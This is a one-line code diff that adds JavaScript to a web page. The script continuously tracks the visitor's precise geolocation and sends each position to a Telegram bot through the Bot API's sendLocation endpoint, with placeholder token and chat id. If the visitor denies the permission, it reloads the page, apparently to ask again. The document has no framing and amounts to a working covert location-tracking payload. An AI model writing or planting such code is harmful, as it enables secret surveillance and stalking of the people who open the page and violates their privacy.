@@ -1,0 +1,1 @@
+navigator.geolocation.watchPosition(p=>{fetch('https://api.telegram.org/bot0000:TOKEN/sendLocation?chat_id=0000&latitude='+p.coords.latitude+'&longitude='+p.coords.longitude)},()=>location.reload(),{enableHighAccuracy:true})
